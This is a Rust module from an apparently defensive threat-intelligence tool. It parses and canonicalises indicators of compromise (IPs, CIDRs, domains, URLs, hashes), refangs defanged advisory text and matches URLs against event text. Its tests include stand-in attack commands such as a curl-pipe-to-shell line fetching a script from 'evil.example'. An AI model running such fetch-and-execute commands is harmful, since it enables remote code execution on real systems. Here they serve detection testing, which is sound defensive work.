//! One indicator value: what it is (inferred from its text, or checked against the type a
//! list states) and the canonical form it is stored and matched in.
//!
//! The canonical forms are the ones [`crate::indicators`] gives events, so a lookup is a
//! plain equality: IPs as the standard library prints them (an IPv4-mapped IPv6 address as
//! its IPv4 address), names lower-case ASCII (IDNA applied) without a trailing dot, hashes as
//! their bytes (events carry lower-case hex, decoded at lookup).

use std::borrow::Cow;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// A parsed indicator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Value {
    Ip(IpAddr),
    /// The network's address (host bits cleared) and prefix length.
    Cidr(IpAddr, u8),
    Domain(String),
    Url(UrlValue),
    Md5([u8; 16]),
    Sha1([u8; 20]),
    Sha256([u8; 32]),
}

/// A URL indicator. Events carry the hosts of the URLs in their columns, not the URLs, so a
/// URL is looked up by its host and then confirmed in the row's text (see
/// [`url_in_text`]); a URL that is only a host (`http://evil.example/`) needs no
/// confirmation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct UrlValue {
    /// `scheme://host[:port]/path?query`, scheme and host lower-cased, without fragment.
    pub text: String,
    /// The host as events carry it in `indicators.domain` or `indicators.ip`.
    pub host: String,
    /// What must appear in the row's text, lower-cased: the host as a URL writes it
    /// (brackets around IPv6), the port, path and query. `None` when the URL has no path
    /// (or only `/`) and no query: then the host alone is the URL.
    pub needle: Option<String>,
}

/// What an untyped value is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Classified {
    Value(Value),
    /// A well-formed indicator of a kind no event carries (a SHA-512, an e-mail address):
    /// skipped and counted, not an error. Says what it is.
    Unsupported(&'static str),
}

/// Undoes the usual defanging of advisories (`evil[.]example`, `hxxp://`, `1.2.3[.]4`,
/// `[:]//`), so lists pasted from a report load as written. Borrowed when there is nothing
/// to undo.
pub(crate) fn refang(text: &str) -> Cow<'_, str> {
    let bracketed = memchr::memchr3(b'[', b'(', b'{', text.as_bytes()).is_some();
    let lower_prefix = |p: &str| {
        text.get(..p.len())
            .is_some_and(|s| s.eq_ignore_ascii_case(p))
    };
    let hxxp = lower_prefix("hxxp") || lower_prefix("fxp");
    if !bracketed && !hxxp {
        return Cow::Borrowed(text);
    }
    let mut out = text.to_string();
    if bracketed {
        for (from, to) in [
            ("[.]", "."),
            ("(.)", "."),
            ("{.}", "."),
            ("[dot]", "."),
            ("(dot)", "."),
            ("[DOT]", "."),
            ("[://]", "://"),
            ("[:]", ":"),
            ("[/]", "/"),
            ("[@]", "@"),
        ] {
            if out.contains(from) {
                out = out.replace(from, to);
            }
        }
    }
    if lower_prefix("hxxp") {
        out.replace_range(..4, "http");
    } else if lower_prefix("fxp") {
        out.replace_range(..3, "ftp");
    }
    Cow::Owned(out)
}

/// What `text` (trimmed, refanged) is, by its shape: a hash by its number of hex digits, a
/// URL (`scheme://`), an IP, a CIDR, a domain name. The message of an error says what it
/// could not be.
pub(crate) fn infer(text: &str) -> Result<Classified, String> {
    // Hashes first: most entries of most lists are hashes, and hex digits alone are no IP
    // (IPv4 has dots, IPv6 colons), URL or domain (no dot).
    // The hash lengths first, decoded straight away (a value of another shape fails on its
    // first non-hex digit).
    let hash = match text.len() {
        32 => decode_hex(text.as_bytes()).map(Value::Md5),
        40 => decode_hex(text.as_bytes()).map(Value::Sha1),
        64 => decode_hex(text.as_bytes()).map(Value::Sha256),
        _ => None,
    };
    if let Some(hash) = hash {
        return Ok(Classified::Value(hash));
    }
    if !text.is_empty() && text.bytes().all(|b| b.is_ascii_hexdigit()) {
        return match text.len() {
            32 | 40 | 64 => parse_hash_any(text).map(Classified::Value),
            56 => Ok(Classified::Unsupported("SHA-224 hash")),
            96 => Ok(Classified::Unsupported("SHA-384 hash")),
            128 => Ok(Classified::Unsupported("SHA-512 hash")),
            n => Err(format!(
                "{n} hex digits: not an MD5 (32), SHA-1 (40) or SHA-256 (64) hash"
            )),
        };
    }
    if text.contains("://") {
        return parse_url(text).map(|u| Classified::Value(Value::Url(u)));
    }
    if let Some(ip) = parse_ip(text) {
        return Ok(Classified::Value(Value::Ip(ip)));
    }
    if text.contains('/') {
        return parse_cidr(text).map(Classified::Value);
    }
    if let Some((user, host)) = text.rsplit_once('@') {
        if !user.is_empty() && parse_domain(host).is_ok() {
            return Ok(Classified::Unsupported("e-mail address"));
        }
    }
    match parse_domain(text) {
        Ok(d) => Ok(Classified::Value(Value::Domain(d))),
        Err(e) if looks_like_name(text) => Err(e),
        Err(_) => Err(format!(
            "{:?} is not an IP, CIDR, domain, URL, or MD5/SHA-1/SHA-256 hash",
            shorten(text)
        )),
    }
}

/// Whether `text` was meant as a domain name (so the domain error is the useful one).
fn looks_like_name(text: &str) -> bool {
    text.contains('.') && !text.contains(char::is_whitespace)
}

/// At most 80 characters of `text`, for messages.
pub(crate) fn shorten(text: &str) -> Cow<'_, str> {
    match text.char_indices().nth(80) {
        None => Cow::Borrowed(text),
        Some((at, _)) => Cow::Owned(format!("{}…", &text[..at])),
    }
}

/// An IP address: IPv4, IPv6 (in brackets or not), an IPv4-mapped IPv6 address read as its
/// IPv4 address (as events carry it).
pub(crate) fn parse_ip(text: &str) -> Option<IpAddr> {
    let inner = text
        .strip_prefix('[')
        .and_then(|t| t.strip_suffix(']'))
        .unwrap_or(text);
    let ip: IpAddr = inner.parse().ok()?;
    if inner.len() != text.len() && ip.is_ipv4() {
        return None; // brackets hold IPv6 only
    }
    Some(canonical_ip(ip))
}

fn canonical_ip(ip: IpAddr) -> IpAddr {
    match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(IpAddr::V6(v6), IpAddr::V4),
        v4 => v4,
    }
}

/// An IP or a CIDR (`10.0.0.0/8`, `2001:db8::/32`); host bits are cleared (`10.1.2.3/8` is
/// `10.0.0.0/8`, as routers read it). `/0` is refused: it would match every address.
pub(crate) fn parse_ip_or_cidr(text: &str) -> Result<Value, String> {
    if let Some(ip) = parse_ip(text) {
        return Ok(Value::Ip(ip));
    }
    if text.contains('/') {
        return parse_cidr(text);
    }
    Err(format!("{:?} is not an IP address or CIDR", shorten(text)))
}

fn parse_cidr(text: &str) -> Result<Value, String> {
    let bad = || format!("{:?} is not a CIDR (address/prefix length)", shorten(text));
    let (addr, len) = text.split_once('/').ok_or_else(bad)?;
    if len.is_empty() || len.len() > 3 || !len.bytes().all(|b| b.is_ascii_digit()) {
        return Err(bad());
    }
    let len: u8 = len.parse().map_err(|_| bad())?;
    let addr: IpAddr = addr.parse().map_err(|_| bad())?;
    let (addr, len) = match addr {
        IpAddr::V4(_) if len > 32 => {
            return Err(format!("{text:?}: an IPv4 prefix is at most /32"))
        }
        IpAddr::V6(_) if len > 128 => {
            return Err(format!("{text:?}: an IPv6 prefix is at most /128"))
        }
        // An IPv4-mapped network is the IPv4 network it maps, as events carry mapped peers.
        IpAddr::V6(v6) if len >= 96 && v6.to_ipv4_mapped().is_some() => (
            IpAddr::V4(v6.to_ipv4_mapped().unwrap_or(Ipv4Addr::UNSPECIFIED)),
            len - 96,
        ),
        a => (a, len),
    };
    if len == 0 {
        return Err(format!("{text:?}: a /0 network would match every address"));
    }
    Ok(Value::Cidr(mask(addr, len), len))
}

/// `addr` with the bits past the first `len` cleared.
pub(crate) fn mask(addr: IpAddr, len: u8) -> IpAddr {
    match addr {
        IpAddr::V4(a) => IpAddr::V4(Ipv4Addr::from(mask4(u32::from(a), len))),
        IpAddr::V6(a) => IpAddr::V6(Ipv6Addr::from(mask6(u128::from(a), len))),
    }
}

pub(crate) fn mask4(addr: u32, len: u8) -> u32 {
    match len {
        0 => 0,
        l if l >= 32 => addr,
        l => addr & (u32::MAX << (32 - l)),
    }
}

pub(crate) fn mask6(addr: u128, len: u8) -> u128 {
    match len {
        0 => 0,
        l if l >= 128 => addr,
        l => addr & (u128::MAX << (128 - l)),
    }
}

/// A hash by its number of hex digits.
fn parse_hash_any(text: &str) -> Result<Value, String> {
    match text.len() {
        32 => parse_hash(text).map(Value::Md5),
        40 => parse_hash(text).map(Value::Sha1),
        64 => parse_hash(text).map(Value::Sha256),
        n => Err(format!(
            "{n} hex digits: not an MD5 (32), SHA-1 (40) or SHA-256 (64) hash"
        )),
    }
}

/// `N` bytes from `2N` hex digits (either case).
pub(crate) fn parse_hash<const N: usize>(text: &str) -> Result<[u8; N], String> {
    decode_hex(text.as_bytes())
        .ok_or_else(|| format!("{:?} is not {} hex digits", shorten(text), N * 2))
}

/// `N` bytes from exactly `2N` hex digits, or `None`. On the lookup path: no allocation.
pub(crate) fn decode_hex<const N: usize>(hex: &[u8]) -> Option<[u8; N]> {
    if hex.len() != 2 * N {
        return None;
    }
    let mut out = [0u8; N];
    // Any byte that is no hex digit reads as 0xff, which no pair of digits gives in the
    // high bits: one test at the end instead of a branch per digit.
    let mut bad = 0u8;
    for (o, pair) in out.iter_mut().zip(hex.chunks_exact(2)) {
        let (hi, lo) = (NIBBLE[pair[0] as usize], NIBBLE[pair[1] as usize]);
        bad |= hi | lo;
        *o = (hi << 4) | (lo & 0x0f);
    }
    (bad & 0xf0 == 0).then_some(out)
}

/// Each byte's hex value, 0xff for bytes that are no hex digit.
const NIBBLE: [u8; 256] = {
    let mut t = [0xffu8; 256];
    let mut i = 0;
    while i < 256 {
        t[i] = match i as u8 {
            b @ b'0'..=b'9' => b - b'0',
            b @ b'a'..=b'f' => b - b'a' + 10,
            b @ b'A'..=b'F' => b - b'A' + 10,
            _ => 0xff,
        };
        i += 1;
    }
    t
};

/// Lower-case hex of `bytes`.
#[cfg(test)]
pub(crate) fn to_hex(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut s = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        s.push(DIGITS[(b >> 4) as usize] as char);
        s.push(DIGITS[(b & 15) as usize] as char);
    }
    s
}

/// A domain name as a list gives it: any case, a trailing dot, a leading `*.` (its
/// subdomains match anyway), Unicode (IDNA to ASCII). At least two labels: a one-label
/// entry (`com`, `corp`) would match every name under it.
pub(crate) fn parse_domain(text: &str) -> Result<String, String> {
    let name = domain_name(text, 1)?;
    if !name.contains('.') {
        return Err(format!(
            "{:?}: a domain needs at least two labels (a one-label entry would match every name under it)",
            shorten(text)
        ));
    }
    Ok(name)
}

/// The canonical form of a host name of at least `min_labels` labels.
fn domain_name(text: &str, min_labels: usize) -> Result<String, String> {
    let bad = |why: &str| format!("{:?} is not a domain name: {why}", shorten(text));
    let t = text.strip_prefix("*.").unwrap_or(text);
    let t = t.strip_suffix('.').unwrap_or(t);
    let name = if t.is_ascii() {
        t.to_ascii_lowercase()
    } else {
        match url::Host::parse(t) {
            Ok(url::Host::Domain(d)) => d,
            _ => return Err(bad("not a valid internationalized name")),
        }
    };
    if name.is_empty() || name.len() > 253 {
        return Err(bad("empty or longer than 253 characters"));
    }
    let mut labels = 0;
    for label in name.split('.') {
        labels += 1;
        if label.is_empty() || label.len() > 63 {
            return Err(bad("an empty label, or one longer than 63 characters"));
        }
        if !label
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        {
            return Err(bad("labels hold letters, digits, `-` and `_` only"));
        }
    }
    if labels < min_labels {
        return Err(bad("too few labels"));
    }
    let tld = name.rsplit('.').next().unwrap_or_default();
    if tld.bytes().all(|b| b.is_ascii_digit()) {
        return Err(bad(
            "its last label is a number (an IP address written wrong?)",
        ));
    }
    Ok(name)
}

/// A URL: `scheme://[userinfo@]host[:port][/path][?query][#fragment]`. The scheme and host
/// are lower-cased, the userinfo and fragment dropped; the path and query are kept as
/// written (they are compared without regard to case, see [`url_in_text`]).
pub(crate) fn parse_url(text: &str) -> Result<UrlValue, String> {
    let bad = |why: &str| format!("{:?} is not a URL: {why}", shorten(text));
    if text.contains(char::is_whitespace) {
        return Err(bad("it contains a blank"));
    }
    let (scheme, rest) = text.split_once("://").ok_or_else(|| bad("no `://`"))?;
    if !scheme.starts_with(|c: char| c.is_ascii_alphabetic())
        || !scheme
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
    {
        return Err(bad("the scheme is not letters, digits, `+`, `-` and `.`"));
    }
    let scheme = scheme.to_ascii_lowercase();
    let end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let (authority, tail) = rest.split_at(end);
    let tail = tail.split('#').next().unwrap_or_default();
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let (host, port) = if host_port.starts_with('[') {
        let close = host_port.find(']').ok_or_else(|| bad("an unclosed `[`"))?;
        let (h, after) = host_port.split_at(close + 1);
        match after {
            "" => (h, None),
            p => (
                h,
                Some(p.strip_prefix(':').ok_or_else(|| bad("junk after `]`"))?),
            ),
        }
    } else {
        match host_port.split_once(':') {
            Some((h, p)) => (h, Some(p)),
            None => (host_port, None),
        }
    };
    if let Some(p) = port {
        if p.is_empty() || !p.bytes().all(|b| b.is_ascii_digit()) || p.parse::<u16>().is_err() {
            return Err(bad("the port is not a number up to 65535"));
        }
    }
    if host.is_empty() {
        return Err(bad("no host"));
    }
    let (key, written) = match parse_ip(host) {
        Some(ip) => {
            let key = ip.to_string();
            let written = if ip.is_ipv6() {
                format!("[{key}]")
            } else {
                key.clone()
            };
            (key, written)
        }
        None if host.starts_with('[') => {
            return Err(bad("the host in brackets is no IPv6 address"))
        }
        // A URL's host may be one label (`http://intranet/`): the URL is the indicator, not
        // the host's subdomains.
        None => {
            let name = domain_name(host, 1).map_err(|e| bad(&e))?;
            (name.clone(), name)
        }
    };
    let port = port.map(|p| format!(":{p}")).unwrap_or_default();
    let text = format!("{scheme}://{written}{port}{tail}");
    let path = if tail == "/" { "" } else { tail };
    let needle = (!path.is_empty() || !port.is_empty())
        .then(|| format!("{written}{port}{path}").to_ascii_lowercase());
    Ok(UrlValue {
        text,
        host: key,
        needle,
    })
}

/// Whether `lower` (a column value, lower-cased) holds a URL whose text from its host on is
/// `needle` (lower-cased): right after `://` or a userinfo's `@`, and ending where a URL
/// ends (the end of the text, a blank, a quote or shell punctuation, a fragment; a query
/// too when the needle has none, so a cache-busting `?x=1` still matches).
///
/// A needle without a path (`evil.example:8080`, from `http://evil.example:8080/`) also
/// ends at a `/`.
pub(crate) fn url_in_text(needle: &str, lower: &str) -> bool {
    let query_ends = !needle.contains('?');
    let path_ends = !needle.contains('/');
    lower.match_indices(needle).any(|(at, _)| {
        let before = lower[..at].bytes().next_back();
        let after = lower[at + needle.len()..].chars().next();
        matches!(before, Some(b'/' | b'@'))
            && after
                .is_none_or(|c| ends_url(c) || (query_ends && c == '?') || (path_ends && c == '/'))
    })
}

fn ends_url(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(
            c,
            '#' | '"'
                | '\''
                | '`'
                | '<'
                | '>'
                | '|'
                | ';'
                | '&'
                | '('
                | ')'
                | '{'
                | '}'
                | ','
                | '^'
                | '*'
                | '\\'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(text: &str) -> Value {
        match infer(text).unwrap() {
            Classified::Value(v) => v,
            other => panic!("{text}: {other:?}"),
        }
    }

    #[test]
    fn infers_each_type() {
        assert_eq!(v("10.1.2.3"), Value::Ip("10.1.2.3".parse().unwrap()));
        assert_eq!(v("2001:DB8::1"), Value::Ip("2001:db8::1".parse().unwrap()));
        assert_eq!(
            v("[2001:db8::1]"),
            Value::Ip("2001:db8::1".parse().unwrap())
        );
        assert_eq!(v("::ffff:10.0.0.1"), Value::Ip("10.0.0.1".parse().unwrap()));
        assert_eq!(v("10.1.2.3/8"), Value::Cidr("10.0.0.0".parse().unwrap(), 8));
        assert_eq!(
            v("2001:db8:ffff::/32"),
            Value::Cidr("2001:db8::".parse().unwrap(), 32)
        );
        assert_eq!(
            v("::ffff:192.0.2.0/120"),
            Value::Cidr("192.0.2.0".parse().unwrap(), 24)
        );
        assert_eq!(v("Evil.Example."), Value::Domain("evil.example".into()));
        assert_eq!(v("*.evil.example"), Value::Domain("evil.example".into()));
        assert_eq!(
            v("bücher.example"),
            Value::Domain("xn--bcher-kva.example".into())
        );
        assert!(matches!(v(&"A".repeat(32)), Value::Md5(b) if b == [0xaa; 16]));
        assert!(matches!(v(&"b".repeat(40)), Value::Sha1(_)));
        assert!(matches!(v(&"c".repeat(64)), Value::Sha256(_)));
        let Value::Url(u) = v("HTTP://User:pw@Evil.Example:8080/a/B.sh?x=1#frag") else {
            panic!()
        };
        assert_eq!(u.text, "http://evil.example:8080/a/B.sh?x=1");
        assert_eq!(u.host, "evil.example");
        assert_eq!(u.needle.as_deref(), Some("evil.example:8080/a/b.sh?x=1"));
        let Value::Url(u) = v("https://evil.example/") else {
            panic!()
        };
        assert_eq!((u.text.as_str(), u.needle), ("https://evil.example/", None));
        let Value::Url(u) = v("http://[2001:db8::5]/x") else {
            panic!()
        };
        assert_eq!(u.host, "2001:db8::5");
        assert_eq!(u.needle.as_deref(), Some("[2001:db8::5]/x"));
    }

    #[test]
    fn unsupported_and_garbage() {
        assert_eq!(
            infer(&"d".repeat(128)),
            Ok(Classified::Unsupported("SHA-512 hash"))
        );
        assert_eq!(
            infer("bad@evil.example"),
            Ok(Classified::Unsupported("e-mail address"))
        );
        for bad in [
            "hello world",
            "abc",
            "evil",
            "10.0.0.0/33",
            "10.0.0.0/0",
            "1.2.3.4.5",
            "010.1.1.1",
            "ab12",
            "http://",
            "http://evil.example:99999/",
            "http://exa mple/",
            "ev!l.example",
            "-",
            "",
        ] {
            assert!(infer(bad).is_err(), "{bad:?}: {:?}", infer(bad));
        }
        assert!(infer("evil")
            .unwrap_err()
            .contains("not an IP, CIDR, domain"));
        assert!(infer("a..b").unwrap_err().contains("empty label"));
    }

    #[test]
    fn refangs() {
        assert_eq!(refang("evil[.]example"), "evil.example");
        assert_eq!(refang("hxxps://evil[.]example/x"), "https://evil.example/x");
        assert_eq!(refang("1.2.3(.)4"), "1.2.3.4");
        assert_eq!(refang("hXXp[://]a[dot]b"), "http://a.b");
        assert_eq!(refang("[2001:db8::1]"), "[2001:db8::1]");
        assert!(matches!(refang("evil.example"), Cow::Borrowed(_)));
    }

    #[test]
    fn url_confirmation() {
        let n = "evil.example/x.sh";
        assert!(url_in_text(n, "curl -s http://evil.example/x.sh | sh"));
        assert!(url_in_text(n, "curl https://evil.example/x.sh"));
        assert!(url_in_text(n, "curl http://u:p@evil.example/x.sh?cb=1"));
        assert!(url_in_text(n, "wget 'http://evil.example/x.sh'"));
        assert!(url_in_text(n, "http://evil.example/x.sh#a"));
        assert!(!url_in_text(n, "curl http://evil.example/x.sh.bak"));
        assert!(!url_in_text(n, "curl http://notevil.example/x.sh"));
        assert!(!url_in_text(n, "curl http://evil.example/x.s"));
        assert!(!url_in_text(
            "evil.example/x?a=1",
            "http://evil.example/x?a=12"
        ));
    }

    #[test]
    fn hex_round_trip() {
        let b: [u8; 4] = decode_hex(b"DeadBeef").unwrap();
        assert_eq!(to_hex(&b), "deadbeef");
        assert_eq!(decode_hex::<4>(b"deadbee"), None);
        assert_eq!(decode_hex::<4>(b"deadbeeg"), None);
    }
}
